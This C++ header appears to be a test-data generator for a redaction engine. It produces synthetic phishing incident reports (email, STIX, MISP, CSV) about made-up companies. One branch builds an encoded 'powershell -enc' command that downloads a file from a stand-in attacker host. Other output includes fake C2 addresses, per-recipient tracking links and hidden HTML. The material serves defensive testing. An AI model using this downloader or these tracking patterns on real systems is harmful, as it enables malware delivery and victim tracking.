// Reports about attacks on members of a made roster, with every identifier and every indicator in them known.
//
//   ReportGenerator generator(seed, roster);
//   GeneratedReport report = generator.next();
//   report.tokens;        // what must not leave, as it stands there
//   report.indicators;    // what must
#pragma once

#include <algorithm>

#include "base/csv.h"
#include "engine/mask/identifier.h"
#include "engine/mask/testing/disguise.h"
#include "engine/mask/testing/seeded_roster.h"
#include "engine/mask/text/view.h"

namespace sekimori::mask::testing {

struct SeededToken {
  std::string form;   // as it stands in the report
  std::string plain;  // what it means
  std::string how;    // its dress
  Identifier identifier = Identifier::organisation;
  bool structured = false;
  bool known = true;  // to the roster
};

struct GeneratedReport {
  std::string name;  // "report.eml"
  std::string bytes;
  std::string member;
  std::string audience;
  std::vector<SeededToken> tokens;
  std::vector<std::string> indicators;
};

class ReportGenerator {
 public:
  ReportGenerator(std::uint64_t seed, const SeededRoster& roster) : random_(seed), roster_(roster) {}

  GeneratedReport next() {
    out_ = {};
    member_ = &pick(random_, roster_.members);
    out_.member = member_->id;
    out_.audience = random_.below(4) == 0 ? "across" : member_->sigs.front();
    year_ = 2025 + static_cast<int>(random_.below(2));
    month_ = 1 + static_cast<int>(random_.below(12));
    day_ = 1 + static_cast<int>(random_.below(28));
    evil_ = word() + pick(random_, std::array<const char*, 5>{"-cloud.com", "mail.net", "-update.org", "-trade.biz", "files.info"});
    evil_ip_ = std::to_string(11 + random_.below(80)) + "." + std::to_string(random_.below(255)) + "." +
               std::to_string(random_.below(255)) + "." + std::to_string(1 + random_.below(250));
    japanese_ = random_.below(10) < 7;
    switch (random_.below(20)) {
      case 0:
      case 1: stix(); break;
      case 2:
      case 3: misp(); break;
      case 4: csv(); break;
      case 5:
      case 6:
      case 7:
      case 8:
      case 9:
      case 10: mail(); break;
      default: text();
    }
    return std::move(out_);
  }

 private:
  std::string word() {
    static constexpr std::array<const char*, 24> parts = {"bri", "vex", "lom", "zar", "quin", "dex", "pol", "fro",
                                                          "gal", "wix", "jur", "mel", "cro",  "tav", "syn", "hub",
                                                          "nor", "plu", "rix", "bel", "vor",  "kel", "dru", "fen"};
    return std::string(pick(random_, parts)) + pick(random_, parts) + pick(random_, parts);
  }
  std::string hex(std::size_t length) {
    std::string out;
    for (std::size_t i = 0; i < length; ++i) out += "0123456789abcdef"[static_cast<std::size_t>(random_.below(16))];
    return out;
  }
  std::string number(std::uint64_t digits) {
    std::string out = std::to_string(1 + random_.below(9));
    while (out.size() < digits) out += std::to_string(random_.below(10));
    return out;
  }
  const MadePerson& insider() { return random_.below(2) == 0 ? pick(random_, member_->people) : pick(random_, member_->strangers); }
  bool is_known(const MadePerson& person) const {
    return std::ranges::any_of(member_->people, [&](const MadePerson& one) { return one.mail == person.mail; });
  }

  // Notes a token and gives it as it is to be written.
  std::string put(std::string form, std::string plain, Identifier identifier, bool structured, std::string how = "", bool known = true) {
    out_.tokens.push_back({form, std::move(plain), std::move(how), identifier, structured, known});
    return form;
  }
  std::string indicator(std::string value) {
    out_.indicators.push_back(value);
    return value;
  }
  std::string defanged(std::string value) {
    if (random_.below(2) == 0) return value;
    for (std::size_t at = value.find('.'); at != std::string::npos; at = value.find('.', at + 3)) value.replace(at, 1, "[.]");
    if (value.starts_with("http")) value.replace(1, 2, "xx");
    return value;
  }

  std::string organisation() {
    const MadeMember& m = *member_;
    const std::array<std::string, 4> names = {m.name, m.short_name, m.english_short, m.subsidiary};
    const std::size_t which = static_cast<std::size_t>(random_.below(japanese_ ? 4 : 3));
    const std::string& plain = names[japanese_ ? which : 2];
    const Disguise worn = respell(random_, plain, plain == m.short_name ? m.kana : std::string());
    return put(worn.text, plain, plain == m.subsidiary ? Identifier::subsidiary : Identifier::organisation, false, worn.how);
  }
  // As people call it: without the word for its trade, in any script, at the start of a sentence, in the name of a machine.
  std::string short_form() {
    const MadeMember& m = *member_;
    const std::string latin = m.stem_latin;
    const auto firm = [&](const std::string& form, const char* how) { return put(form, form, Identifier::organisation, false, how); };
    if (!japanese_) {
      if (latin.size() >= 5 && random_.below(2) == 0)
        return "It reached " + firm(lower_of(latin) + "-fs0" + number(1), "short form in a host") + ".";
      return firm(latin, "short form in romaji") + " saw it at its plant, and so did the others at " + latin + ".";
    }
    switch (random_.below(5)) {
      case 0: return firm(m.stem_kana, "short form in kana") + "工場でも受信しました。";
      case 1: return "届いたのは" + firm(half_width_kana_of(m.stem_kana), "short form in half width kana") + "の開発部門です。";
      case 2: return firm(latin, "short form in romaji") + " の工場で見つかりました。";
      case 3:
        return latin.size() >= 5 ? firm(lower_of(latin) + "-fs0" + number(1), "short form in a host") + " に到達しました。"
                                 : firm(latin, "short form in romaji") + " に到達しました。";
      default:
        return to_utf32(m.stem).size() >= 2 ? "うち（" + firm(m.stem, "short form") + "）でも出ました。"
                                            : firm(m.stem_kana, "short form in kana") + "でも出ました。";
    }
  }
  // Numbers of the member in the dresses that hide them.
  std::string number_in_disguise() {
    const MadeMember& m = *member_;
    switch (random_.below(6)) {
      case 0: {
        const std::string plain = "証券コード" + m.stock_code;
        const std::array<Disguise, 4> all = {Disguise{half_width_kana_of("証券コード") + m.stock_code, "half width"},
                                             Disguise{decomposed_of(plain), "decomposed"}, Disguise{utf7_of(plain), "utf-7"},
                                             Disguise{"証券コ－ド" + full_width_of(m.stock_code), "full width"}};
        const Disguise& worn = pick(random_, all);
        return "当社は" + put(worn.text, plain, Identifier::organisation, false, "stock code, " + worn.how) + " です。";
      }
      case 1: {
        const Disguise worn = encode(random_, "証券コード" + m.stock_code, 2);
        return "備考 " + put(worn.text, "証券コード" + m.stock_code, Identifier::organisation, false, "stock code, " + worn.how) + " ";
      }
      case 2: {
        const std::string ip = m.network + std::to_string(1 + random_.below(250));
        return "PTR " + put(reverse_name_of(ip), ip, Identifier::ip_address, false, "reverse name") + " ";
      }
      case 3: {
        const std::string ip = m.network + std::to_string(1 + random_.below(250));
        return "src " + put(mapped_address_of(ip), ip, Identifier::ip_address, false, "mapped address") + " ";
      }
      case 4: {
        const std::string plain = "受付番号 INC-2026-" + number(5);
        std::string how;
        const std::string worn = encoded(plain, 1 + random_.below(4) % 4, how);  // base64, base64url, quoted-printable, hex
        return "メモ " + put(worn, plain, Identifier::ticket, false, how) + " ";
      }
      default: {
        const std::string worn = utf7_of(m.short_name);
        return "件名 " + put(worn, m.short_name, Identifier::organisation, false, "utf-7") + " ";
      }
    }
  }
  std::string person_in_prose() {
    const MadePerson& who = insider();
    const bool known = is_known(who);
    if (!japanese_) {
      const std::string name = who.given_latin + " " + who.family_latin;
      return pick(random_, std::array<std::string, 3>{"Mr. ", "our employee ", "the recipient "}) == "Mr. "
                 ? "Mr. " + put(who.family_latin, who.family_latin, Identifier::person, false, "", known)
                 : "our employee " + put(name, name, Identifier::person, false, "", known);
    }
    switch (random_.below(6)) {
      case 0: return put(who.family, who.family, Identifier::person, false, "", known) + "さん";
      case 1: return "当社の" + put(who.family, who.family, Identifier::person, false, "", known);
      case 2: return put(who.family, who.family, Identifier::person, false, "", known) + "課長";
      case 3: return "担当者：" + put(who.family + who.given, who.family + who.given, Identifier::person, false, "", known) + "\n";
      case 4: return put(who.family + " " + who.given, who.family + who.given, Identifier::person, false, "", known) + "様";
      default: return "社員の" + put(who.family + who.given, who.family + who.given, Identifier::person, false, "", known);
    }
  }
  std::string tracking_link() {
    const MadePerson& who = insider();
    const Disguise worn = encode(random_, random_.below(4) == 0 ? member_->domain : who.mail, 3);
    const std::string base = "https://" + evil_ + "/" + word() + ".php";
    out_.indicators.push_back(evil_);
    std::string value = put(worn.text, who.mail, Identifier::tracking_id, false, worn.how);
    // '+' and '/' of base64 travel escaped or not.
    return base + "?" + pick(random_, std::array<std::string, 4>{"id", "e", "token", "ref"}) + "=" + value;
  }
  std::string when() {
    const int hour = static_cast<int>(random_.below(24)), minute = static_cast<int>(random_.below(60));
    const std::string plain = japanese_ ? fmt::format("{}年{}月{}日 {}時{:02}分", year_, month_, day_, hour, minute)
                                        : fmt::format("{:04}-{:02}-{:02} {:02}:{:02}:00", year_, month_, day_, hour, minute);
    return put(plain, plain, Identifier::timestamp, false);
  }

  // One sentence; each kind of identifier has several.
  std::string sentence() {
    const MadeMember& m = *member_;
    const bool ja = japanese_;
    switch (random_.below(38)) {
      case 34: return short_form();
      case 35: return number_in_disguise();
      case 36: {
        const Disguise worn = other_form(random_, m.short_name, m.english_short);
        return put(worn.text, m.short_name, Identifier::organisation, false, worn.how) +
               (ja ? " 情報システム部から報告します。" : " reports.");
      }
      case 0: return organisation() + (ja ? "から報告します。" : " reports the following.");
      case 1: return person_in_prose() + (ja ? "が不審なメールを開封しました。" : " opened the message.");
      case 2: return (ja ? "誘導先は " : "The link leads to ") + tracking_link() + (ja ? " です。" : " .");
      case 3:
        return (ja ? "製品" : "It asked about our product ") +
               (ja ? put(m.product, m.product, Identifier::product, false) + "の問い合わせを装っていました。"
                   : put(m.product_latin, m.product_latin, Identifier::product, false) + ".");
      case 4: {
        const std::string host = m.host_prefix + "-PC" + number(4);
        return (ja ? "端末 " : "Host ") + put(host, host, Identifier::internal_host, false) +
               (ja ? " で実行されました。" : " executed it.");
      }
      case 5: {
        const std::string ip =
            pick(random_, std::array<std::string, 3>{"10.", "172.16.", "192.168."}) + (random_.below(2) == 0 ? "20.30" : "7.9");
        const std::string full = std::ranges::count(ip, '.') == 2 ? ip + "." + std::to_string(1 + random_.below(250)) : ip;
        return (ja ? "社内アドレスは " : "The internal address was ") + put(full, full, Identifier::ip_address, false) +
               (ja ? " です。" : ".");
      }
      case 6: {
        const std::string ip = m.network + std::to_string(1 + random_.below(250));
        return (ja ? "当社のグローバルIPは " : "Our public address is ") + put(ip, ip, Identifier::ip_address, false) +
               (ja ? " です。" : ".");
      }
      case 7:
        return (ja ? "連絡先 TEL " : "Phone: ") +
               put(random_.below(2) == 0 ? other_hyphens(random_, m.phone) : m.phone, m.phone, Identifier::phone, false) +
               (ja ? "。" : ".");
      case 8:
        return ja ? "所在地は" + put(m.address, m.address, Identifier::postal_address, false) + "。"
                  : "See " + put(m.domain, m.domain, Identifier::domain, false) + ".";
      case 9: {
        const MadePerson& who = insider();
        const std::string path = "C:\\Users\\" + who.account + "\\AppData\\Local\\Temp\\" + word() + ".exe";
        put(who.account, who.account, Identifier::path_user, false, "", is_known(who));
        return (ja ? "作成されたファイル: " : "Dropped file: ") + path + " ";
      }
      case 10: {
        const std::string share = "\\\\" + m.host_prefix + "-FS01\\" + (ja ? "設計" : "design");
        return (ja ? "共有 " : "Share ") + put(share, share, Identifier::share_name, false) + (ja ? " が参照されました。" : " was read.");
      }
      case 11: {
        const std::string ticket = pick(random_, std::array<std::string, 3>{"INC", "REQ-", "CASE-"}) + number(7);
        return (ja ? "管理番号 " : "Ticket ") + put(ticket, ticket, Identifier::ticket, false) + (ja ? "。" : ".");
      }
      case 12: {
        const MadePerson& who = insider();
        const std::string form = random_.below(3) == 0 ? other_hyphens(random_, full_width_of(who.mail)) : who.mail;
        return (ja ? "宛先は " : "It was sent to ") +
               put(form, who.mail, Identifier::mail_address, false, form == who.mail ? "" : "full width", is_known(who)) +
               (ja ? " でした。" : " .");
      }
      case 13: return (ja ? "受信は" : "Received at ") + when() + (ja ? "。" : ".");
      case 14: return (ja ? "C2は " : "C2: ") + defanged_indicator(evil_ip_) + (ja ? " です。" : " .");
      case 15: return (ja ? "差出人は " : "Sender: ") + indicator(word() + "@" + evil_) + (ja ? " です。" : " .");
      case 16: return "SHA-256: " + indicator(hex(64));
      case 17: return (ja ? "添付は「" : "Attachment ") + indicator(word() + ".pdf.exe") + (ja ? "」。" : " .");
      case 18:
        return (ja ? "通信先 " : "It connects to ") + defanged_indicator("http://" + word() + "." + evil_ + "/" + word() + "/" + hex(8)) +
               (ja ? " 。" : " .");
      case 19: {
        const Disguise worn = encode(random_, random_.below(2) == 0 ? m.short_name : m.english_short, 3);
        return (ja ? "スクリプト内の文字列: " : "String in the script: ") +
               put(worn.text, m.short_name, Identifier::organisation, false, worn.how) + " ";
      }
      case 20: {
        const std::string account = m.directory + "\\" + insider().account;
        return (ja ? "アカウント " : "Account ") + put(account, account, Identifier::path_user, false) +
               (ja ? " が使われました。" : " was used.");
      }
      case 24: {
        // A name in a file's name, a firm's in the file's.
        const MadePerson& who = insider();
        if (!ja) return "Attached: " + indicator(word() + ".docm") + " .";
        const std::string file = put(who.family, who.family, Identifier::person, false, "file name", is_known(who)) + "様_" +
                                 put(m.short_name, m.short_name, Identifier::organisation, false, "file name") + "御中.docx";
        return "添付「" + file + "」を開きました。";
      }
      case 25: {
        // Kana of somebody whom the report has not named otherwise, with an honorific.
        const MadePerson& who = pick(random_, m.people);
        return ja ? put(random_.below(2) == 0 ? who.family_kana : half_width_kana_of(who.family_kana), who.family_kana, Identifier::person,
                        false, "kana") +
                        "さんが転送しました。"
                  : put(who.family_latin, who.family_latin, Identifier::person, false) + "-san forwarded it.";
      }
      case 26: {
        // Romaji of a known person, both orders, capitals as Japanese write them.
        const MadePerson& who = pick(random_, m.people);
        std::string family = who.family_latin;
        for (char& c : family)
          if (c >= 'a' && c <= 'z') c = static_cast<char>(c & ~0x20);
        const std::string form = random_.below(2) == 0 ? family + " " + who.given_latin : who.given_latin + " " + family;
        return (ja ? "署名は " : "Signed ") + put(form, form, Identifier::person, false, "romaji") + (ja ? " でした。" : ".");
      }
      case 27: {
        const std::string department =
            pick(random_, std::array<std::string, 4>{"生産技術部第二課", "海外営業本部", "知的財産部", "品質保証グループ"});
        return ja ? put(department, department, Identifier::department, false) + "の端末です。"
                  : "It went to the " + put("Procurement Department", "Procurement Department", Identifier::department, false) + ".";
      }
      case 28: {
        const std::string shown = "hxxp://" + evil_ + "/" + percent_of(m.short_name) + "/login";
        put(percent_of(m.short_name), m.short_name, Identifier::organisation, false, "percent");
        out_.indicators.push_back(evil_);
        return (ja ? "偽の画面は " : "The fake page is ") + shown + (ja ? " です。" : " .");
      }
      case 29: {
        // A command line in UTF-16, as PowerShell wants it.
        const std::string command =
            "iwr http://" + evil_ + "/" + word() + " -o $env:TEMP\\a # " + m.english_short + " " + pick(random_, m.people).account;
        const std::string block = utf16_base64_of(command);
        return "powershell -enc " + put(block, m.english_short, Identifier::organisation, false, "utf-16 base64") + " ";
      }
      case 30: {
        const std::string mobile = "090-" + number(4) + "-" + number(4);
        return (ja ? "携帯は " : "Mobile: ") +
               put(random_.below(2) == 0 ? full_width_of(mobile) : mobile, mobile, Identifier::phone, false) + (ja ? "。" : ".");
      }
      case 31: {
        const std::string unc = "\\\\" + lower_of(m.host_prefix) + "nas.corp.local\\public\\" + word() + ".xlsx";
        return (ja ? "保存先 " : "Saved to ") + put(unc, unc, Identifier::share_name, false) + " ";
      }
      case 21: return ja ? m.prefecture + "の工場でも同じメールを受信しました。" : "It reached our plant as well.";
      case 22:
        return ja ? "当社は従業員数" + std::to_string(m.employees) + "名です。" : "We have " + std::to_string(m.employees) + " employees.";
      default: {
        // An internationalised look of the member's name, as punycode.
        const std::string label = "xn--" + to_punycode(to_utf32(m.short_name));
        return (ja ? "類似ドメイン " : "Look-alike ") + put(label, m.short_name, Identifier::domain, false, "punycode") + ".com" +
               (ja ? " も確認しました。" : " was seen.");
      }
    }
  }
  std::string defanged_indicator(const std::string& value) { return indicator(defanged(value)); }

  std::string prose(std::size_t sentences) {
    std::string out;
    for (std::size_t i = 0; i < sentences; ++i) out += sentence() + (random_.below(2) == 0 ? "\n" : japanese_ ? "" : " ");
    return out + "\n";
  }

  void text() {
    out_.name = "report.txt";
    out_.bytes = prose(6 + static_cast<std::size_t>(random_.below(14)));
    if (random_.below(4) == 0) {
      const MadePerson& who = insider();
      out_.bytes += "\n-- \n" + organisation() + "\n情報システム部 " +
                    put(who.family + " " + who.given, who.family + who.given, Identifier::person, false, "", is_known(who)) + "\n" +
                    put(who.mail, who.mail, Identifier::mail_address, false, "", is_known(who)) + "\n";
    }
  }

  static std::string word_of(std::string_view text) { return "=?UTF-8?B?" + to_base64(as_bytes(text)) + "?="; }

  void mail() {
    out_.name = "report.eml";
    const MadeMember& m = *member_;
    const MadePerson& who = insider();
    const MadePerson& other = insider();
    const auto structured = [&](std::string form, std::string plain, Identifier identifier, std::string how = "") {
      return put(std::move(form), std::move(plain), identifier, true, std::move(how));
    };
    const std::string mx = "mx" + std::to_string(1 + random_.below(9)) + "." + m.domain;
    const std::string inner =
        lower_of(m.host_prefix) + "-ex0" + std::to_string(1 + random_.below(9)) + "." + lower_of(m.directory) + ".local";
    const std::string date =
        fmt::format("Mon, {} {} {} {:02}:{:02}:{:02} +0900", day_,
                    std::array<const char*, 12>{"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"}.at(
                        static_cast<std::size_t>(month_ - 1)),
                    year_, random_.below(24), random_.below(60), random_.below(60));
    structured(date, date, Identifier::timestamp);
    std::string& e = out_.bytes;
    const std::string sender = word() + "@" + evil_;
    e += "Delivered-To: " + structured(who.mail, who.mail, Identifier::mail_address) + "\n";
    e += "Received: from " + structured(mx, mx, Identifier::received_chain) + " (" + mx + " [10.1.2." + std::to_string(random_.below(250)) +
         "])\n\tby " + structured(inner, inner, Identifier::received_chain) + " with ESMTP id " + hex(10) + "\n\tfor <" + who.mail + ">; " +
         date + "\n";
    e += "Received: from " + evil_ + " (" + evil_ + " [" + evil_ip_ + "])\n\tby " + mx + " (Postfix) with ESMTPS id " + hex(9) +
         "\n\tfor <" + who.mail + ">; " + date + "\n";
    indicator(evil_ip_);
    e += "Authentication-Results: " + mx + "; spf=pass smtp.mailfrom=" + evil_ + "; dkim=none\n";
    e += "X-" + m.host_prefix +
         "-Gateway: " + structured("scanned by " + m.host_prefix + "-GW3", m.host_prefix + "-GW3", Identifier::banner) + "\n";
    e += "Return-Path: <" + sender + ">\n";
    e += "From: " + (random_.below(2) == 0 ? word_of("採用担当") : "Recruiting") + " <" + indicator(sender) + ">\n";
    const std::string display = who.family + " " + who.given;
    e += "To: " +
         (random_.below(2) == 0 ? structured(word_of(display), display, Identifier::person, "encoded word")
                                : "\"" + structured(display, display, Identifier::person) + "\"") +
         " <" + who.mail + ">\n";
    if (random_.below(2) == 0) e += "Cc: " + structured(other.mail, other.mail, Identifier::mail_address) + "\n";
    const std::string id = hex(12) + "@" + evil_;
    e += "Message-ID: <" + indicator(id) + ">\n";
    if (random_.below(2) == 0) e += "In-Reply-To: <" + structured(hex(8) + "@" + inner, inner, Identifier::received_chain) + ">\n";
    const std::string subject = japanese_ ? m.short_name + "様 お見積りの件" : "Quotation for " + m.english_short;
    e += "Subject: " + structured(word_of(subject), japanese_ ? m.short_name : m.english_short, Identifier::organisation, "encoded word") +
         "\n";
    e += "Date: " + date + "\nX-Mailer: " + indicator("Foxmail 7." + std::to_string(random_.below(9))) + "\nMIME-Version: 1.0\n";
    e += "Content-Type: multipart/mixed; boundary=\"=_" + hex(10) + "\"\n\n";
    const std::string boundary = e.substr(e.rfind("=_"), 12);
    std::string body;
    if (japanese_) body = put(who.family, who.family, Identifier::person, false, "", is_known(who)) + "様\n\nお世話になっております。\n";
    else body = "Dear Mr. " + put(who.family_latin, who.family_latin, Identifier::person, false, "", is_known(who)) + ",\n\n";
    body += prose(3 + static_cast<std::size_t>(random_.below(6)));
    if (random_.below(3) == 0) {
      // The desk's answer, quoted.
      body += "\n2025年1月5日 10:00 " + other.family + " " + other.given + " <" + other.mail + ">:\n> " +
              put(m.name, m.name, Identifier::organisation, false, "quoted") + "の" +
              put(other.family, other.family, Identifier::person, false, "quoted", is_known(other)) +
              "です。\n> 資料は展示会ブース7番でお渡しします。\n";
      put("展示会ブース7番", "展示会ブース7番", Identifier::quoted_text, false, "quoted");
    }
    e += "--" + boundary + "\nContent-Type: text/plain; charset=UTF-8\n";
    switch (random_.below(3)) {
      case 0: e += "Content-Transfer-Encoding: base64\n\n" + to_base64(as_bytes(body)) + "\n"; break;
      case 1: e += "Content-Transfer-Encoding: quoted-printable\n\n" + quoted_lines(body) + "\n"; break;
      default: e += "Content-Transfer-Encoding: 8bit\n\n" + body + "\n";
    }
    const std::string file = word() + ".txt";
    e += "--" + boundary + "\nContent-Type: text/plain; name=\"" + indicator(file) + "\"\nContent-Disposition: attachment; filename=\"" +
         file + "\"\n\n" + put(m.name, m.name, Identifier::decoy_text, true) + " 様向け資料\n";
    if (random_.below(3) == 0) {
      // A page with a link for this recipient alone, and text that nobody sees.
      e += "--" + boundary + "\nContent-Type: text/html; charset=UTF-8\n\n<html><body><p>" + prose(2) + "</p><a href=\"" + tracking_link() +
           "\">click</a><img src=\"https://" + evil_ + "/p.gif?e=";
      const std::string digest = encode(random_, who.mail, 2).text;
      e += put(digest, who.mail, Identifier::tracking_id, false, "encoded") + "\"><div style=\"display:none\">" +
           put(m.name, m.name, Identifier::organisation, false, "hidden") + "</div></body></html>\n";
    }
    e += "--" + boundary + "--\n";
    if (random_.below(3) != 0) return;
    // Passed on by the firm's own people, the attack inside as a message.
    const MadePerson& from = insider();
    std::string outer = "From: " + word_of(from.family + " " + from.given) + " <" +
                        structured(from.mail, from.mail, Identifier::mail_address) + ">\nTo: report@hub.example\nSubject: " +
                        structured(word_of(m.short_name + " 報告"), m.short_name, Identifier::organisation, "encoded word") +
                        "\nDate: " + date + "\nReceived: from " + inner + " (" + inner + " [10.9.8.7]) by hub.example; " + date +
                        "\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"outer_" + hex(8) + "\"\n\n";
    const std::string mark = outer.substr(outer.rfind("outer_"), 14);
    outer += "--" + mark + "\nContent-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n" + prose(3) + "\n" +
             put(from.family, from.family, Identifier::person, false, "", is_known(from)) + "課長より\n";
    outer += "--" + mark + "\nContent-Type: message/rfc822\n\n" + e + "\n--" + mark + "--\n";
    e = std::move(outer);
  }

  static std::string quoted_lines(std::string_view text) {
    static constexpr std::string_view digits = "0123456789ABCDEF";
    std::string out;
    std::size_t column = 0;
    for (const char c : text) {
      const auto b = static_cast<unsigned char>(c);
      if (c == '\n') {
        out += '\n';
        column = 0;
        continue;
      }
      std::string one(1, c);
      if (b >= 0x7F || c == '=') one = {'=', digits[b >> 4U], digits[b & 15U]};
      if (column + one.size() > 72) {
        out += "=\n";
        column = 0;
      }
      out += one;
      column += one.size();
    }
    return out;
  }

  std::string uuid() { return hex(8) + "-" + hex(4) + "-4" + hex(3) + "-8" + hex(3) + "-" + hex(12); }

  void stix() {
    out_.name = "report.json";
    const MadeMember& m = *member_;
    const MadePerson& who = insider();
    const auto structured = [&](const std::string& form, Identifier identifier) { return put(form, form, identifier, true); };
    const std::string stamp =
        fmt::format("{:04}-{:02}-{:02}T{:02}:{:02}:00.000Z", year_, month_, day_, random_.below(24), random_.below(60));
    structured(stamp, Identifier::timestamp);
    const std::string org = "identity--" + uuid(), from = "email-addr--" + uuid(), to = "email-addr--" + uuid();
    structured(org, Identifier::organisation);
    Json objects = Json::array();
    objects.push(Json::object({{"type", "identity"},
                               {"spec_version", "2.1"},
                               {"id", org},
                               {"created", stamp},
                               {"modified", stamp},
                               {"name", structured(m.name, Identifier::organisation)},
                               {"identity_class", "organization"},
                               {"contact_information", structured(m.phone, Identifier::phone)}}));
    objects.push(Json::object({{"type", "email-addr"}, {"spec_version", "2.1"}, {"id", from}, {"value", indicator(word() + "@" + evil_)}}));
    objects.push(Json::object({{"type", "email-addr"},
                               {"spec_version", "2.1"},
                               {"id", to},
                               {"value", structured(who.mail, Identifier::mail_address)},
                               {"display_name", structured(who.name(), Identifier::person)}}));
    Json message = Json::object({{"type", "email-message"},
                                 {"spec_version", "2.1"},
                                 {"id", "email-message--" + uuid()},
                                 {"is_multipart", false},
                                 {"date", stamp},
                                 {"from_ref", from}});
    message.set("to_refs", Json(Json::Array{Json(to)})).set("subject", structured(m.short_name, Identifier::organisation) + " 御中");
    message.set("received_lines", Json(Json::Array{Json("from x by " + structured("mx." + m.domain, Identifier::received_chain))}));
    message.set("body", prose(2));
    objects.push(std::move(message));
    objects.push(
        Json::object({{"type", "indicator"},
                      {"spec_version", "2.1"},
                      {"id", "indicator--" + uuid()},
                      {"created_by_ref", org},
                      {"created", stamp},
                      {"modified", stamp},
                      {"name", "C2"},
                      {"description", prose(3)},
                      {"pattern", "[domain-name:value = '" + indicator(evil_) + "' OR ipv4-addr:value = '" + indicator(evil_ip_) + "']"},
                      {"pattern_type", "stix"},
                      {"valid_from", stamp}}));
    out_.bytes = Json::object({{"type", "bundle"}, {"id", "bundle--" + uuid()}, {"objects", std::move(objects)}}).dump();
  }

  void misp() {
    out_.name = "event.json";
    const MadeMember& m = *member_;
    const MadePerson& who = insider();
    const auto structured = [&](const std::string& form, Identifier identifier) { return put(form, form, identifier, true); };
    Json attributes = Json::array();
    const auto attribute = [&](const char* type, const char* category, std::string value, std::string comment = "") {
      attributes.push(Json::object({{"uuid", uuid()},
                                    {"type", type},
                                    {"category", category},
                                    {"value", std::move(value)},
                                    {"comment", std::move(comment)},
                                    {"to_ids", true}}));
    };
    attribute("email-src", "Payload delivery", indicator(word() + "@" + evil_));
    attribute("email-dst", "Payload delivery", structured(who.mail, Identifier::mail_address));
    attribute("target-org", "Targeting data", structured(m.name, Identifier::organisation));
    attribute("target-user", "Targeting data", structured(who.name(), Identifier::person));
    attribute("target-machine", "Targeting data", structured(m.host_prefix + "-PC" + number(4), Identifier::internal_host));
    attribute("ip-dst", "Network activity", indicator(evil_ip_), sentence());
    attribute("ip-src", "Network activity", structured(m.network + "77", Identifier::ip_address));
    attribute("sha256", "Payload delivery", indicator(hex(64)));
    attribute("url", "Network activity", indicator("https://" + evil_ + "/" + word()));
    attribute("text", "Other", prose(2));
    Json event = Json::object({{"uuid", uuid()},
                               {"info", sentence()},
                               {"date", fmt::format("{:04}-{:02}-{:02}", year_, month_, day_)},
                               {"event_creator_email", structured(pick(random_, m.people).mail, Identifier::mail_address)}});
    event.set("Orgc", Json::object({{"name", structured(m.short_name, Identifier::organisation)}, {"uuid", uuid()}}));
    event.set("Attribute", std::move(attributes));
    out_.bytes = Json::object({{"Event", std::move(event)}}).dump();
  }

  void csv() {
    out_.name = "log.csv";
    const MadeMember& m = *member_;
    append_csv_row(out_.bytes, {"time", "recipient", "user", "host", "sender", "url", "comment"});
    for (std::uint64_t i = 0; i < 3 + random_.below(5); ++i) {
      const MadePerson& who = insider();
      const auto structured = [&](const std::string& form, Identifier identifier) { return put(form, form, identifier, true); };
      append_csv_row(out_.bytes, {structured(fmt::format("{:04}-{:02}-{:02} {:02}:{:02}:{:02}", year_, month_, day_, random_.below(24),
                                                         random_.below(60), random_.below(60)),
                                             Identifier::timestamp),
                                  structured(who.mail, Identifier::mail_address), structured(who.name(), Identifier::person),
                                  structured(m.host_prefix + "-NB" + number(3), Identifier::internal_host), indicator(word() + "@" + evil_),
                                  indicator("https://" + evil_ + "/" + word() + "/" + hex(6)), sentence()});
    }
  }

  SeededRandom random_;
  const SeededRoster& roster_;
  GeneratedReport out_;
  const MadeMember* member_ = nullptr;
  int year_ = 2026, month_ = 1, day_ = 1;
  std::string evil_, evil_ip_;
  bool japanese_ = true;
};

}  // namespace sekimori::mask::testing
